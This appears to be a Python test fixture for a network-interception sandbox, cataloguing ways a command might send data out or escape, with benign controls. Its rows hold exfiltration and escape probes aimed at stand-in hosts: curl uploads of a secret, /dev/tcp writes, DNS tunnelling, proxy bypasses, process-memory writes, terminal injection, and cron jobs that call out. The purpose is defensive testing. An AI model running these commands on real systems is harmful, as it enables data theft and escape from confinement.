@@ -1,0 +1,278 @@
+"""Ways by which a command could send: each is caught by a gate, or makes coverage incomplete, or is
+closed. A way that somebody found becomes a row.
+
+Of each the name, the reason that the gate has to give, and a script: of Python, or of sh after
+`sh:`, or of C after `c:`. A reason is `to …` (what was sent, and to where), an id of
+`app.run.interception` or of a gap; CLOSED: the kernel refuses, and the script ends with 7.
+HELPER is the folder in which other programs of the machine serve, VICTIM is one of them.
+"""
+
+from app.run import interception as way
+
+OUT, OUT6, NO_WAY = "203.0.114.9", "2606:1::9", "198.51.100.9"
+CLOSED = "closed"
+UDP = "u = socket.socket(type=socket.SOCK_DGRAM)\n"
+UDP6 = "u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
+TCP = "s = socket.socket(); s.setblocking(False)\n"
+UNIX = "s = socket.socket(socket.AF_UNIX)\n"
+C = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long\n"
+QUERY = "b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\1\\0\\1'"
+CURL = "curl -sk -m 5"
+
+
+def refused(what: str) -> str:
+    """A Python script that ends with 7 where the kernel refuses."""
+    return f"import sys\ntry:\n    {what}\nexcept OSError as e:\n    print(e); sys.exit(7)\n"
+
+
+def calls(*arguments: object) -> str:
+    """A system call that ends the script with 7 where the kernel refuses it."""
+    given = ", ".join(map(str, arguments))
+    return f"{C}import sys\nr = libc.syscall({given}); print(r, ctypes.get_errno())\nsys.exit(7 if r < 0 else 0)\n"
+
+
+def socket_of(family: int, kind: int, protocol: int = 0) -> tuple[str, str]:
+    return (
+        way.OTHER_SOCKET,
+        f"import contextlib\nwith contextlib.suppress(OSError): socket.socket({family}, {kind}, {protocol})",
+    )
+
+
+def stream(place: str) -> str:
+    return f"{UNIX}s.connect({place}); s.send(b'x')"
+
+
+WEB: dict[str, tuple[str, str]] = {
+    "head": ("to out.example", f"sh:{CURL} -I http://out.example/"),
+    "a query": ("to out.example", f"sh:{CURL} 'https://out.example/?id=secret'"),
+    "a post": ("to out.example", f"sh:{CURL} -d secret http://out.example/"),
+    "an upload": ("to out.example", f"sh:echo secret | {CURL} -T - http://out.example/"),
+    "a host of a profile": ("to cdn.cribl.io", f"sh:{CURL} https://cdn.cribl.io/telemetry/index.html?v=1"),
+    "without the proxy": (f"to {OUT}", f"sh:{CURL} --noproxy '*' http://{OUT}/secret"),
+    "by NO_PROXY": (f"to {OUT}", f"sh:NO_PROXY='*' no_proxy='*' {CURL} http://{OUT}/secret"),
+    "without variables": (f"to {OUT}", f"sh:env -i /usr/bin/{CURL} http://{OUT}/secret"),
+    "http2 without tls": ("to ", f"sh:{CURL} --http2-prior-knowledge --noproxy '*' http://{OUT}/"),
+    "http 0.9": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'GET /secret\\r\\n'); s.close()"),
+    "half a request": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'POST /secret HT'); s.close()"),
+    "no byte": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 443)); s.close()"),
+    "a websocket": ("to secret.example", f"s = socket.create_connection(('{OUT}', 80))\n"
+        "s.send(b'GET /x HTTP/1.1\\r\\nhost: secret.example\\r\\nconnection: upgrade\\r\\nupgrade: websocket\\r\\n\\r\\n')"),
+    "grpc": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80))\n"
+        "s.send(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes(9)); s.close()"),
+    "a name in a handshake": ("to secret.example", "import ssl\n"
+        f"s = socket.create_connection(('{OUT}', 443)); s.settimeout(3)\n"
+        "c = ssl._create_unverified_context()\n"
+        "try: c.wrap_socket(s, server_hostname='secret.example')\nexcept OSError: pass"),
+    "raw tls": ("to ", f"sh:timeout 4 openssl s_client -connect {OUT}:443 </dev/null"),
+    "tls of a mail server": ("other_port", f"sh:timeout 3 openssl s_client -starttls smtp -connect {OUT}:25 </dev/null"),
+    "dns over https": (f"to {OUT}", f"sh:{CURL} --noproxy '*' 'https://{OUT}/dns-query?dns=c2VjcmV0'"),
+    "ipv6": (f"to {OUT6}", f"s = socket.create_connection(('{OUT6}', 80)); s.send(b'x'); s.close()"),
+    "ipv4 in ipv6": (f"to {OUT}", "s = socket.socket(socket.AF_INET6)\n"
+        f"s.connect(('::ffff:{OUT}', 443)); s.send(b'x'); s.close()"),
+    "another proxy outside": ("to ", f"s = socket.create_connection(('{OUT}', 80))\n"
+        "s.send(b'CONNECT secret.example:443 HTTP/1.1\\r\\nhost: secret.example\\r\\n\\r\\n'); s.close()"),
+    "another port by the proxy": ("to out.example", f"sh:{CURL} -p http://out.example:8080/secret"),
+    "node": ("to out.example", "sh:node -e \"fetch('https://out.example/secret').catch(() => 0)\""),
+    "perl": (f"to {OUT}", f"sh:perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"{OUT}:80\")->print(\"x\")'"),
+    "php": (f"to {OUT}", f"sh:timeout 5 php -r '@file_get_contents(\"http://{OUT}/secret\");'"),
+    "bash": (f"to {OUT}", f"sh:bash -c 'echo secret >/dev/tcp/{OUT}/80'"),
+    "wget": ("to out.example", "sh:timeout 5 wget -q -t 1 http://out.example/secret"),
+    "git": ("to out.example", "sh:timeout 5 git ls-remote https://out.example/secret"),
+    "fast open by connect": (f"to {OUT}", f"s = socket.socket(); s.setsockopt(6, 30, 1)\ns.connect(('{OUT}', 80)); s.send(b'x'); s.close()"),
+    "vfork": (f"to {OUT}", f"import subprocess\nsubprocess.run(['bash', '-c', 'echo x >/dev/tcp/{OUT}/80'], close_fds=False)"),
+}  # fmt: skip
+
+PORTS: dict[str, tuple[str, str]] = {
+    "another port": (way.OTHER_PORT, f"{TCP}s.connect_ex(('{OUT}', 8443))"),
+    "a port that knocks": (way.OTHER_PORT, f"for port in (1, 2, 65535):\n  {TCP.strip()}; s.connect_ex(('{OUT}', port))"),
+    "a connection that times out": (way.OTHER_PORT, f"s = socket.socket(); s.settimeout(1)\ntry: s.connect(('{OUT}', 5000))\nexcept OSError: pass"),
+    "multipath tcp": (way.OTHER_PORT, f"s = socket.socket(2, 1, 262); s.setblocking(False); s.connect_ex(('{OUT}', 8443))"),
+    "mail": (way.OTHER_PORT, f"{TCP}s.connect_ex(('{OUT}', 25))"),
+    "ftp": (way.OTHER_PORT, f"sh:curl -s -m 2 --noproxy '*' ftp://{OUT}/x"),
+    "ssh": (way.OTHER_PORT, f"sh:ssh -o ConnectTimeout=2 -o BatchMode=yes -W x:1 {OUT} </dev/null"),
+    "git's own": (way.OTHER_PORT, f"sh:timeout 2 git ls-remote git://{OUT}/x"),
+    "dns over tls": (way.OTHER_PORT, f"{TCP}s.connect_ex(('{OUT}', 853))"),
+    "dns over tcp": (way.LOOKUP, f"{TCP}s.connect_ex(('{OUT}', 53))"),
+    "metadata of a cloud": (way.LINK_LOCAL, f"{TCP}s.connect_ex(('169.254.169.254', 80))"),
+    "where no way leads": (way.UNREACHED, f"{TCP}s.connect_ex(('{NO_WAY}', 443))"),
+    "where no way leads, another port": (way.UNREACHED, f"{TCP}s.connect_ex(('{NO_WAY}', 8443))"),
+    "fast open": (CLOSED, refused(f"socket.socket().sendto(b'x', 0x20000000, ('{OUT}', 443))")),
+    "a static program": (way.OTHER_PORT, """c:
+static long call(long n, long a, long b, long c) { long r; __asm__ volatile("syscall"
+  : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r; }
+void _start(void) { static unsigned char to[16] = {2,0, 0x11,0x51, 203,0,114,9};
+  long s = call(41, 2, 1 | 04000, 0); call(42, s, (long)to, 16); call(60, 0, 0, 0); }"""),
+    "the x32 abi": (CLOSED, """c:
+static long call(long n, long a, long b, long c) { long r; __asm__ volatile("syscall"
+  : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r; }
+void _start(void) { call(60, call(41 | 0x40000000, 2, 1, 0) < 0 ? 7 : 0, 0, 0); }"""),
+    "32 bits": (way.OTHER_PORT, """c32:
+static int call(int a, unsigned *b) { int r;
+  __asm__ volatile("int $0x80" : "=a"(r) : "a"(102), "b"(a), "c"(b) : "memory"); return r; }
+void _start(void) { static unsigned char to[16] = {2,0, 0x11,0x51, 203,0,114,9};
+  static unsigned tcp[3] = {2, 1 | 04000, 0}; unsigned at[3] = {call(1, tcp), (unsigned)to, 16};
+  call(3, at); __asm__ volatile("int $0x80" :: "a"(1), "b"(0)); }"""),
+}  # fmt: skip
+
+DATAGRAMS: dict[str, tuple[str, str]] = {
+    name: (way.DATAGRAMS, script)
+    for name, script in {
+        "udp": f"{UDP}u.connect(('{OUT}', 4433)); u.send(b'x')",
+        "udp, not blocking": f"{UDP}u.setblocking(False); u.connect(('{OUT}', 4433)); u.send(b'x')",
+        "udp that looks for a way": f"{UDP}u.connect(('{OUT}', 9)); u.send(b'x')",
+        "udp behind a connection to somebody else": f"{UDP}u.connect(('{OUT}', 4433)); u.send(b'x')\n"
+            f"{TCP}s.connect_ex(('203.0.114.10', 4433))",
+        "sendto": f"{UDP}u.sendto(b'x', ('{OUT}', 4433))",
+        "sendto, ipv6": f"{UDP6}u.sendto(b'x', ('{OUT6}', 4433))",
+        "sendto, ipv4 in ipv6": f"{UDP6}u.sendto(b'x', ('::ffff:{OUT}', 4433))",
+        "sendto of a connected one": f"{UDP}u.connect(('127.0.0.1', 9)); u.sendto(b'x', ('{OUT}', 4433))",
+        "sendmsg": f"{UDP}u.sendmsg([b'x'], [], 0, ('{OUT}', 4433))",
+        "sendmmsg": f"""{C}{UDP}
+to = ctypes.create_string_buffer(b'\\2\\0' + (4433).to_bytes(2, 'big') + socket.inet_aton('{OUT}') + bytes(8), 16)
+text = ctypes.create_string_buffer(b'x', 1)
+iov = (ctypes.c_ulong * 2)(ctypes.addressof(text), 1)
+many = (ctypes.c_ulong * 8)(ctypes.addressof(to), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0)
+print(libc.syscall(307 if os.uname().machine == 'x86_64' else 269, u.fileno(), many, 1, 0))""",
+        "quic": f"{UDP}u.connect_ex(('{OUT}', 443))",
+        "quic, sendto": f"{UDP}\ntry: u.sendto(b'x', ('{OUT}', 443))\nexcept OSError: pass",
+        "http/3": f"{UDP}u.setblocking(False); u.connect_ex(('{OUT6[:0]}{OUT}', 443)); u.close()",
+        "time": f"{UDP}u.sendto(bytes(48), ('{OUT}', 123))",
+        "a log server": f"{UDP}u.sendto(b'<13>secret', ('{OUT}', 514))",
+        "mdns": f"{UDP}u.sendto({QUERY}, ('224.0.0.251', 5353))",
+        "broadcast": f"{UDP}u.setsockopt(1, 6, 1); u.sendto(b'x', ('10.0.0.255', 4433))",
+        "as nobody": f"{UDP}import os; os.setuid(65534); u.sendto(b'x', ('{OUT}', 4433))",
+    }.items()
+} | {
+    "a group": (way.JOINED, f"{UDP}u.setsockopt(0, 35, socket.inet_aton('239.1.2.3') + bytes(4))"),
+    "a group, ipv6": (way.JOINED, f"{UDP6}u.setsockopt(41, 20, socket.inet_pton(10, 'ff15::5ec2:e7') + bytes(4))"),
+}  # fmt: skip
+
+LOOKUPS: dict[str, tuple[str, str]] = {
+    "libc": (way.LOOKUP, "\ntry: socket.getaddrinfo('secret.evil.example', 80)\nexcept OSError: pass"),
+    "perl's": (way.LOOKUP, "sh:timeout 5 perl -e 'gethostbyname(\"secret.evil.example\")'"),
+    "node's own": (way.LOOKUP, "sh:timeout 5 node -e \"require('dns').resolveTxt('secret.evil.example', () => process.exit())\""),
+    "a resolver of one's own": (way.LOOKUP, f"{UDP}u.sendto({QUERY}, ('{OUT}', 53))"),
+    "a resolver of one's own, connected": (way.LOOKUP, f"import os\n{UDP}u.connect(('{OUT}', 53)); os.write(u.fileno(), {QUERY})"),
+    "a resolver by ipv6": (way.LOOKUP, f"{UDP6}u.sendto({QUERY}, ('{OUT6}', 53))"),
+    "systemd's stub": (way.LOOKUP, f"{UDP}u.sendto({QUERY}, ('127.0.0.53', 53))"),
+    "systemd's socket": (CLOSED, refused("socket.socket(1).connect('/run/systemd/resolve/io.systemd.Resolve')")),
+    "nscd": (CLOSED, refused("socket.socket(1).connect('/run/nscd/socket')")),
+    "avahi": (CLOSED, refused("socket.socket(1).connect('/run/avahi-daemon/socket')")),
+}  # fmt: skip
+
+OTHERS: dict[str, tuple[str, str]] = {
+    "a helper": (way.LOCAL, stream("HELPER + '/stream'")),
+    "a helper, relative": (way.LOCAL, f"import os; os.chdir(HELPER)\n{stream('\"stream\"')}"),
+    "a helper, abstract": (way.LOCAL, stream("'\\0telemock-helper'")),
+    "a helper, another root": (way.LOCAL, f"import os; os.chroot(HELPER)\n{stream('\"/stream\"')}"),
+    "a helper, datagrams": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'x', HELPER + '/datagrams')"),
+    "a helper, packets": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.connect(HELPER + '/packets'); s.send(b'x')"),
+    "a helper that is slow": (way.LOCAL, f"{UNIX}s.settimeout(2)\ntry: s.connect(HELPER + '/slow')\nexcept OSError: pass"),
+    "a helper's connection": (way.LOCAL, f"{UNIX}s.connect(HELPER + '/stream')\n"
+        "fd = socket.recv_fds(s, 1, 1)[1][0]; socket.socket(fileno=fd).send(b'x')"),
+    "docker": (way.DAEMON, stream("HELPER + '/docker.sock'")),
+    "containerd": (way.DAEMON, stream("HELPER + '/containerd.sock'")),
+    "the message bus": (way.LOCAL, stream("'/run/dbus/system_bus_socket'")),
+    "a person's message bus": (way.LOCAL, stream("'/run/user/0/bus'")),
+    "systemd": (way.LOCAL, stream("'/run/systemd/private'")),
+    "the screen": (way.LOCAL, stream("'\\0/tmp/.X11-unix/X0'")),
+    "wayland": (way.LOCAL, stream("'/run/user/0/wayland-0'")),
+    "the agent of ssh": (way.LOCAL, stream("HELPER + '/agent.1'")),
+    "the agent of gnupg": (way.LOCAL, stream("HELPER + '/S.gpg-agent'")),
+    "dirmngr": (way.LOCAL, stream("HELPER + '/S.dirmngr'")),
+    "the log": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'<13>secret', '/run/systemd/journal/dev-log')"),
+    "a local server": (way.LOCAL, "socket.create_connection(('127.0.0.1', 9001)).send(b'x')"),
+    "a local server, by no address": (way.LOCAL, "socket.create_connection(('0.0.0.0', 9001)).send(b'x')"),
+    "a local server, ipv4 in ipv6": (way.LOCAL, "s = socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', 9001))"),
+    "a local server, by the machine's address": (way.LOCAL, "socket.create_connection(('10.0.0.2', 9001))"),
+    "a proxy on this machine": (way.LOCAL, "sh:curl -s -m 2 -x http://127.0.0.1:9001 http://out.example/"),
+    "statsd": (way.LOCAL, f"{UDP}u.sendto(b'x', ('127.0.0.1', 9002))"),
+}  # fmt: skip
+
+SOCKETS: dict[str, tuple[str, str]] = {
+    "icmp": (way.OTHER_SOCKET, f"s = socket.socket(2, 3, 1); s.sendto(bytes(8), ('{OUT}', 0))"),
+    "ping": socket_of(2, 2, 1),
+    "packets": (way.OTHER_SOCKET, "s = socket.socket(17, 3, 0x300); s.bind(('eth0', 0)); s.send(bytes(60))"),
+    "sctp": socket_of(2, 1, 132), "udp-lite": socket_of(2, 2, 136), "dccp": socket_of(2, 6, 33),
+    "vsock": socket_of(40, 1), "bluetooth": socket_of(31, 1, 3), "can": socket_of(29, 3, 1),
+    "tipc": socket_of(30, 2), "xdp": socket_of(44, 3), "smc": socket_of(43, 1), "rds": socket_of(21, 5),
+    "io_uring": (CLOSED, calls(425, 8, "ctypes.create_string_buffer(120)")),
+    "a network of its own": (way.OTHER_NETWORK, f"sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; bash -c \"echo x >/dev/tcp/{OUT}/443\"'"),
+    "an interface": (CLOSED, "sh:ip link add v0 type vxlan id 5 remote 203.0.114.9 dstport 4789 || exit 7"),
+    "a route": (CLOSED, "sh:ip route add 127.9.0.0/16 via 10.0.0.1 || exit 7"),
+    "the firewall": (CLOSED, "sh:nft add table ip t2 || exit 7"),
+    "a network's file system": (CLOSED, "sh:mount -t nfs -o addr=203.0.114.9,vers=3,nolock 203.0.114.9:/x /mnt || exit 7"),
+    "another network": (CLOSED, f"{C}import sys\nfd = os.open(f'/proc/{{VICTIM}}/ns/net', 0); r = libc.setns(fd, 0x40000000); sys.exit(7 if r else 0)"),
+}  # fmt: skip
+
+PROCESSES: dict[str, tuple[str, str]] = {
+    "a daemon": (way.DATAGRAMS, "import os, time\n"
+        f"if os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(.5)\n{UDP}u.sendto(b'x', ('{OUT}', 4433))"),
+    "a child that stays": ("descendants", "sh:setsid sleep 300 >/dev/null 2>&1 & exit 0"),
+    "nohup": ("descendants", "sh:nohup sh -c 'sleep 300; curl http://out.example/' >/dev/null 2>&1 &"),
+    "a process namespace": (way.DATAGRAMS, f"sh:unshare -rpf bash -c 'echo x >/dev/udp/{OUT}/4433'"),
+    "another user": (way.DATAGRAMS, f"sh:setpriv --reuid=65534 --clear-groups bash -c 'echo x >/dev/udp/{OUT}/4433'"),
+    "another program's memory": (CLOSED, refused("open(f'/proc/{VICTIM}/mem', 'r+b').close()")),
+    "another program, traced": (CLOSED, calls("101 if os.uname().machine == 'x86_64' else 117", 16, "VICTIM", 0, 0)),
+    "another program's memory, by a call": (CLOSED, f"{C}import sys\nb = ctypes.create_string_buffer(b'x', 1)\n"
+        "l = (ctypes.c_ulong * 2)(ctypes.addressof(b), 1); r = (ctypes.c_ulong * 2)(MEMORY, 1)\n"
+        "sys.exit(7 if libc.process_vm_writev(VICTIM, l, 1, r, 1, 0) < 0 else 0)"),
+    "another program's socket": (CLOSED, calls(438, "os.pidfd_open(VICTIM)", "TAKEN", 0)),
+    "a signal to another program": (CLOSED, refused("import os; os.kill(VICTIM, 18)")),
+    "the end of telemock": (CLOSED, refused("import os; os.kill(os.getppid(), 9)")),
+    "typing into the terminal": (CLOSED, refused("import fcntl; fcntl.ioctl(0, 0x5412, b'x')")),
+    "the kernel's keys": (CLOSED, calls("249 if os.uname().machine == 'x86_64' else 218", "b'dns_resolver'", "b'secret.evil.example'", "b''", -4)),
+    "the kernel's helpers": (CLOSED, refused("open('/proc/sys/kernel/core_pattern', 'w').close()")),
+    "cron": ("queues", "open('/var/spool/cron/crontabs/x', 'w').write('* * * * * curl http://out.example/\\n')"),
+    "at": ("queues", "open('/var/spool/cron/atjobs/x', 'w').write('curl http://out.example/\\n')"),
+    "a mail queue": ("queues", "open('/var/spool/postfix/maildrop/x', 'w').write('secret')"),
+    "systemd's units": ("queues", "import os\nd = os.environ['HOME'] + '/.config/systemd/user'; os.makedirs(d, exist_ok=True); open(d + '/x.service', 'w').write('x')"),
+}  # fmt: skip
+
+WAYS = {
+    f"{kind}: {name}": row
+    for kind, rows in {
+        "web": WEB, "ports": PORTS, "datagrams": DATAGRAMS, "look-ups": LOOKUPS,
+        "other programs": OTHERS, "sockets": SOCKETS, "processes": PROCESSES,
+    }.items()
+    for name, row in rows.items()
+}  # fmt: skip
+
+HARMLESS: dict[str, str] = {
+    "true": "sh:true",
+    "ssl": "import ssl, http.client, urllib.request; ssl.create_default_context()",
+    "ls": "sh:ls -l / >/dev/null",
+    "git": "sh:cd $(mktemp -d) && git init -q . && git add -A && git -c user.name=a -c user.email=a@b commit -qm x --allow-empty && git status",
+    "a compiler": "sh:cd $(mktemp -d) && echo 'int main(void) { return 0; }' >a.c && gcc a.c && ./a.out",
+    "make": "sh:cd $(mktemp -d) && printf 'a: b\\n\\tcp b a\\nb:\\n\\techo b >b\\n' >Makefile && make -j4",
+    "sqlite": "sh:sqlite3 :memory: 'select 1'",
+    "accounts": "import pwd, grp, os; pwd.getpwall(); pwd.getpwuid(os.getuid()); grp.getgrall()",
+    "an unknown account": "sh:id nobody-of-that-name; true",
+    "a log without a daemon": "import syslog; syslog.syslog('x')",
+    "localhost": "socket.getaddrinfo('localhost', 80)",
+    "a server of its own": "s = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(s.getsockname()); c.send(b'x')",
+    "a server of its own by http": "import http.server, threading, urllib.request\n"
+        "s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)\n"
+        "threading.Thread(target=s.serve_forever, daemon=True).start()\n"
+        "urllib.request.urlopen(f'http://127.0.0.1:{s.server_port}/').read()",
+    "a server of a child's": "sh:cd $(mktemp -d) && python3 -m http.server -b 127.0.0.1 8099 >/dev/null 2>&1 & s=$!\n"
+        "for i in 1 2 3 4 5 6 7 8 9; do sleep .3; curl -s http://127.0.0.1:8099/ >/dev/null && break; done; kill $s",
+    "a server of its own, ipv6": "s = socket.create_server(('::1', 0), family=10); socket.create_connection(s.getsockname()[:2])",
+    "a unix server of its own": "import tempfile; at = tempfile.mkdtemp() + '/s'\n"
+        "l = socket.socket(1); l.bind(at); l.listen(); s = socket.socket(1); s.connect(at); s.send(b'x'); print(l.accept()[0].recv(1))",
+    "an abstract server of its own": "l = socket.socket(1); l.bind('\\0own'); l.listen(); s = socket.socket(1); s.connect('\\0own')",
+    "datagrams of its own": f"{UDP}u.bind(('127.0.0.1', 0)); socket.socket(type=2).sendto(b'x', u.getsockname())",
+    "multiprocessing": "import multiprocessing as m\nif __name__ == '__main__':\n  with m.get_context('spawn').Pool(2) as p: print(p.map(abs, [-1, 2]))",
+    "asyncio": "import asyncio\nasync def f():\n  p = await asyncio.create_subprocess_exec('true'); await p.wait()\nasyncio.run(f())",
+    "pairs": "a, b = socket.socketpair(); socket.send_fds(a, [b'x'], [0]); a.sendmsg([b'x'])",
+    "node": "sh:node -e \"const s = require('net').createServer(c => c.end()).listen(0, '127.0.0.1', () => require('net').connect(s.address().port).on('close', () => s.close()).resume())\"",
+    "perl": "sh:perl -e 'use Socket; socketpair(A, B, AF_UNIX, SOCK_STREAM, 0) or die'",
+    "interfaces": "sh:ip addr >/dev/null; ip route >/dev/null",
+    "the kernel's ciphers": "import contextlib\nwith contextlib.suppress(OSError): socket.socket(38, 5)",
+    "closed ports": f"socket.socket().connect_ex(('127.0.0.1', 9)); {UDP}u.sendto(b'x', ('127.0.0.1', 9))",
+    "a debugger": "sh:gdb -q -batch -ex run --args true >/dev/null",
+    "strace": "sh:strace -f -o /dev/null sh -c true",
+    "pipes": "sh:seq 9 | sort | head -1 | cat",
+    "a sandbox": "sh:unshare -r true",
+    "random and time": "import os, time, tempfile, threading; os.urandom(9); time.time(); threading.Thread(target=print).start()",
+}  # fmt: skip
